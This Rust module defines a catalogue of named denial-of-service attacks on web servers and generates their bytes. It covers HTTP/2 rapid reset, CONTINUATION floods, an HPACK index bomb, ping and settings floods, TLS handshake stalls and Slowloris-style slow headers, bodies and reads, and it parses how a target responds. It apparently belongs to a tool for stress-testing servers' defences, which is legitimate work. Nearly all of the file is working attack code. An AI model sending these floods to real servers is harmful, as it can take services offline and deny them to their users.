//! What hostile clients send: floods of HTTP/2, of TLS and of slow HTTP/1.1, each under a name.
//!
//! An attack is bytes: an opening, and steps that follow it until the other side has had enough. How a connection
//! ended is read from what came back ([`Heard`]).
//! Source: CVE-2019-9511 to 9518, CVE-2023-44487, CVE-2024-27316, CVE-2025-8671; Slowloris.

/// How its steps follow one another.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Pace {
    /// As fast as the other side takes them; who is cut off comes again.
    Flat,
    /// One each so many milliseconds, on each connection; nobody comes again.
    Drip(u64),
    /// No step: each connection rests after its opening; nobody comes again.
    Rest,
    /// No step: whoever gets an answer, or is cut off, comes again.
    Again,
}

/// One kind of attack.
#[derive(Clone, Copy)]
pub struct Attack {
    /// What it is called.
    pub name: &'static str,
    /// How fast.
    pub pace: Pace,
    /// Whether what comes back is read.
    pub reads: bool,
    /// What comes first on each connection.
    pub opening: fn() -> Vec<u8>,
    /// Step number n of a connection.
    pub step: fn(u32) -> Vec<u8>,
    /// What is spoken, as far as an answer can be understood.
    pub http2: bool,
}

/// The attack of this name.
pub fn find(name: &str) -> Option<Attack> {
    all().into_iter().find(|a| a.name == name)
}

/// All of them.
pub fn all() -> Vec<Attack> {
    let flood = |name, step| Attack {
        name,
        pace: Pace::Flat,
        reads: true,
        opening: greeting,
        step,
        http2: true,
    };
    let inside = |name, opening, step| Attack {
        opening,
        ..flood(name, step)
    };
    let deaf = |attack| Attack {
        reads: false,
        ..attack
    };
    let slow = |name, pace, opening, step| Attack {
        name,
        pace,
        reads: true,
        opening,
        step,
        http2: false,
    };
    vec![
        flood("rapid-reset", |n| {
            request(n, frame(RST_STREAM, 0, id(n), &CANCEL))
        }),
        flood("reset-by-window-of-0", |n| {
            request(n, frame(WINDOW_UPDATE, 0, id(n), &[0; 4]))
        }),
        flood("reset-by-window-overflow", |n| {
            request(n, frame(WINDOW_UPDATE, 0, id(n), &[0x7f, 255, 255, 255]))
        }),
        flood("reset-by-data-after-end", |n| {
            request(n, frame(DATA, 0, id(n), b"x"))
        }),
        flood("reset-by-priority-on-itself", |n| {
            let on = [&id(n).to_be_bytes()[..], &[9]].concat();
            request(n, frame(PRIORITY, 0, id(n), &on))
        }),
        flood("reset-by-priority-of-wrong-length", |n| {
            request(n, frame(PRIORITY, 0, id(n), &[0; 4]))
        }),
        flood("reset-by-length", |n| {
            let head = block("POST", b"\x00\x0econtent-length\x015");
            let body = frame(DATA, END_STREAM, id(n), b"x");
            [frame(HEADERS, END_HEADERS, id(n), &head), body].concat()
        }),
        flood("reset-by-bad-head", |n| {
            let head = block("GET", b"\x00\x03x-a\x02 b");
            frame(HEADERS, END_HEADERS | END_STREAM, id(n), &head)
        }),
        inside("continuation-endless", half_a_head, |_| {
            let field = [&b"\x00\x01x\x7f\x81\x7d"[..], &[b'y'; 16_128]].concat();
            frame(CONTINUATION, 0, 1, &field)
        }),
        inside("continuation-tiny", half_a_head, |_| {
            frame(CONTINUATION, 0, 1, &[0x90])
        }),
        inside("continuation-empty", half_a_head, |_| {
            frame(CONTINUATION, 0, 1, &[])
        }),
        flood("hpack-index-bomb", |n| {
            // A table entry of 4,000 bytes, which each byte that follows names.
            let mut head = block("GET", b"\x40\x01x\x7f\xa1\x1e");
            head.extend([b'y'; 4_000]);
            head.extend([0xbe; 10_000]);
            frame(HEADERS, END_HEADERS | END_STREAM, id(n), &head)
        }),
        inside("cookie-crumb-bomb", shut, |n| {
            let mut head = block("GET", b"\x60\x01a");
            head.extend([0xbe; 12_000]);
            frame(HEADERS, END_HEADERS | END_STREAM, id(n), &head)
        }),
        // Within all limits of a head, and no window for its answer.
        inside("cookie-crumbs-held", shut, |n| {
            let mut head = block("GET", b"\x60\x01a");
            head.extend([0xbe; 80]);
            frame(HEADERS, END_HEADERS | END_STREAM, id(n), &head)
        }),
        flood("settings", |_| frame(SETTINGS, 0, 0, &[])),
        deaf(flood("settings-unread", |_| frame(SETTINGS, 0, 0, &[]))),
        flood("ping", |_| frame(PING, 0, 0, &[7; 8])),
        deaf(flood("ping-unread", |_| frame(PING, 0, 0, &[7; 8]))),
        flood("priority", |n| frame(PRIORITY, 0, id(n), &[0, 0, 0, 0, 9])),
        flood("window-update", |_| {
            frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])
        }),
        inside("empty-data", upload, |_| frame(DATA, 0, 1, &[])),
        flood("unknown-frames", |_| frame(99, 0, 0, &[0; 30])),
        inside(
            "windows-of-1",
            || {
                let one = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 1]);
                [PREFACE, &one, &request(0, Vec::new())].concat()
            },
            |_| frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]),
        ),
        inside(
            "window-too-large",
            || [greeting(), request(0, Vec::new())].concat(),
            |_| frame(WINDOW_UPDATE, 0, 0, &[0x7f, 255, 255, 255]),
        ),
        deaf(inside("never-reads", wide_open, |n| request(n, Vec::new()))),
        slow("tls-hellos", Pace::Again, Vec::new, nothing),
        slow(
            "tls-stall",
            Pace::Rest,
            || b"\x16\x03\x01\x02".to_vec(),
            nothing,
        ),
        slow("tls-silence", Pace::Rest, Vec::new, nothing),
        slow("tls-tiny-records", Pace::Flat, Vec::new, |n| {
            // A hello of 64 KiB, a byte a record.
            let byte = HELLO_OF_64_KIB.get(n as usize).copied().unwrap_or(0);
            vec![0x16, 3, 1, 0, 1, byte]
        }),
        slow("tls-hello-of-64-kib", Pace::Flat, Vec::new, |n| {
            let mut record = vec![0x16, 3, 1, 0x40, 0];
            record.resize(5 + 0x4000, 0);
            if n == 0 {
                record[5..9].copy_from_slice(HELLO_OF_64_KIB);
            }
            record
        }),
        slow("tls-garbage", Pace::Flat, Vec::new, |_| {
            b"\x00\xff\x12\x34garbage that goes on".to_vec()
        }),
        slow("tls-plain-http", Pace::Again, small, nothing),
        slow("slow-heads", Pace::Drip(100), half_of_http1, |_| {
            b"x".to_vec()
        }),
        slow(
            "slow-bodies",
            Pace::Rest,
            || b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\n\r\nabc".to_vec(),
            nothing,
        ),
        slow(
            "dripping-bodies",
            Pace::Drip(400),
            || b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\n\r\nabc".to_vec(),
            |_| b"x".to_vec(),
        ),
        slow(
            "post-999999999",
            Pace::Rest,
            || b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 999999999\r\n\r\n".to_vec(),
            nothing,
        ),
        deaf(slow(
            "slow-reads",
            Pace::Rest,
            || b"GET /16k HTTP/1.1\r\nHost: a\r\n\r\n".repeat(400),
            nothing,
        )),
        slow("idle", Pace::Rest, small, nothing),
    ]
}

/// How a connection answered.
#[derive(Default)]
pub struct Heard {
    partial: Vec<u8>,
    /// The code of the last GOAWAY.
    pub goaway: Option<u32>,
    /// The codes of resets, as they came.
    pub resets: Vec<u32>,
    /// How many responses of HTTP/2 began.
    pub heads: u32,
    first: Vec<u8>,
}

impl Heard {
    /// Takes what came.
    pub fn feed(&mut self, came: &[u8], http2: bool) {
        if !http2 {
            let room = FIRST - self.first.len().min(FIRST);
            self.first.extend(&came[..came.len().min(room)]);
            return;
        }
        let mut joined = std::mem::take(&mut self.partial);
        joined.extend(came);
        let mut bytes = &joined[..];
        while let Some((head, rest)) = bytes.split_at_checked(9) {
            let len = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
            let Some((payload, rest)) = rest.split_at_checked(len) else {
                break;
            };
            let code = |at: usize| {
                let four = payload.get(at..at + 4);
                four.map(|b| u32::from_be_bytes([b[0], b[1], b[2], b[3]]))
            };
            match head[3] {
                GOAWAY => self.goaway = code(4),
                RST_STREAM => self.resets.extend(code(0)),
                HEADERS => self.heads += 1,
                _ => {}
            }
            bytes = rest;
        }
        self.partial = bytes.to_vec();
    }

    /// A word for how it ended, given whether it was by a reset.
    pub fn end(&self, reset: bool) -> String {
        if let Some(code) = self.goaway {
            return format!("goaway {code}");
        }
        if let Some(status) = self.first.strip_prefix(b"HTTP/1.1 ") {
            return String::from_utf8_lossy(&status[..status.len().min(3)]).into_owned();
        }
        match self.first.first() {
            Some(0x15) => "alert".into(),
            Some(0x16) => "hello".into(),
            _ if reset => "reset".into(),
            _ => "closed".into(),
        }
    }

    /// True once something came of HTTP/1.1 or TLS.
    pub fn answered(&self) -> bool {
        !self.first.is_empty()
    }
}

fn greeting() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
}

/// With windows of 0, and the table of the other side's encoder as it is.
fn shut() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0])].concat()
}

/// With windows that nothing fills.
fn wide_open() -> Vec<u8> {
    let most = [0x7f, 255, 255, 255];
    let stream = frame(SETTINGS, 0, 0, &[&[0, 4][..], &most].concat());
    let whole = frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0, 0, 0]);
    [PREFACE, &stream, &whole].concat()
}

fn half_a_head() -> Vec<u8> {
    let head = frame(HEADERS, END_STREAM, 1, &block("GET", &[]));
    [greeting(), head].concat()
}

fn upload() -> Vec<u8> {
    let head = frame(HEADERS, END_HEADERS, 1, &block("POST", &[]));
    [greeting(), head].concat()
}

fn half_of_http1() -> Vec<u8> {
    b"GET /128 HTTP/1.1\r\nHost: a\r\nX-Slow: ".to_vec()
}

fn small() -> Vec<u8> {
    b"GET /128 HTTP/1.1\r\nHost: a\r\n\r\n".to_vec()
}

fn nothing(_: u32) -> Vec<u8> {
    Vec::new()
}

/// The stream of step n.
fn id(n: u32) -> u32 {
    2 * n + 1
}

/// A request on the stream of step n, and what follows it.
fn request(n: u32, more: Vec<u8>) -> Vec<u8> {
    let head = block("GET", &[]);
    [frame(HEADERS, END_HEADERS | END_STREAM, id(n), &head), more].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut bytes = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// A request for `http://a/16k`, and more fields, as HPACK.
fn block(method: &str, more: &[u8]) -> Vec<u8> {
    let method = if method == "GET" { 0x82 } else { 0x83 };
    [&[method, 0x86][..], b"\x01\x01a\x04\x04/16k", more].concat()
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// The head of a ClientHello that says to be as long as 64 KiB.
const HELLO_OF_64_KIB: &[u8] = b"\x01\x00\xff\xff";
/// So much of an answer tells what it is.
const FIRST: usize = 16;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_has_a_name_of_its_own() {
        let mut names: Vec<_> = all().iter().map(|a| a.name).collect();
        names.sort_unstable();
        let count = names.len();
        names.dedup();
        assert_eq!(names.len(), count);
        assert!(find("rapid-reset").is_some() && find("nonsense").is_none());
    }

    #[test]
    fn an_end_is_understood_wherever_it_is_cut() {
        let goaway = frame(GOAWAY, 0, 0, &[0, 0, 0, 1, 0, 0, 0, 11]);
        let bytes = [frame(RST_STREAM, 0, 1, &CANCEL), goaway].concat();
        for piece in 1..bytes.len() {
            let mut heard = Heard::default();
            bytes.chunks(piece).for_each(|b| heard.feed(b, true));
            assert_eq!(
                (heard.end(true), &heard.resets[..]),
                ("goaway 11".into(), &[8][..])
            );
        }
        let mut heard = Heard::default();
        heard.feed(b"HTTP/1.1 408 Request Timeout\r\n", false);
        assert_eq!(heard.end(false), "408");
        assert_eq!(Heard::default().end(true), "reset");
    }
}
